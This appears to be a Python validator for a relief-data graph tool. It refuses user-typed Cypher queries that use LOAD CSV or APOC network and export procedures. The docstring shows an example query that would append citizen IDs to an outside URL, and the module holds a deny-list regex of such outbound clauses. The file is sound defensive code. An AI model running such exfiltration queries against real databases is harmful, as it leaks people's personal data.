"""Cypher typed by a person (the dashboard's ad-hoc box, `reliefgraph cypher`).

Such queries run read-only in the database, which refuses every write. What
a read-only query may still do is fetch from the network: FalkorDB's
`LOAD CSV FROM 'https://…'` (libcurl inside the engine; no setting turns it
off) and Neo4j's LOAD CSV and APOC loaders. A query like
`MATCH (p:Person) LOAD CSV FROM 'https://host/' + p.citizen_id AS r …`
would send clear citizen IDs out of a session whose results are masked, so
these clauses are refused before the query reaches the engine. Comments are
removed first, so they cannot split a keyword away from this check.
"""
from __future__ import annotations

import re

from reliefgraph.graph.store import StoreError

_COMMENTS = re.compile(r"/\*.*?(\*/|$)|//[^\n]*", re.S)
_OUTBOUND = re.compile(r"\bLOAD\W*CSV\b|\bapoc\W*\.\W*(load|import|export|cypher|periodic|bolt|http)\b"
                       r"|\bdbms\W*\.\W*security\b", re.I)


class QueryRefused(StoreError):
    """A typed query uses a clause that may reach outside the database."""


def check_typed_query(query: str) -> None:
    """Raise QueryRefused if `query` could read from or send to the network."""
    found = _OUTBOUND.search(_COMMENTS.sub(" ", query))
    if found:
        raise QueryRefused(f"此处不允许 {found.group(0)!r}：只读查询不得访问外部文件或网络 "
                           f"{found.group(0)!r} is not allowed here: typed queries may not reach files or "
                           "the network outside the database")
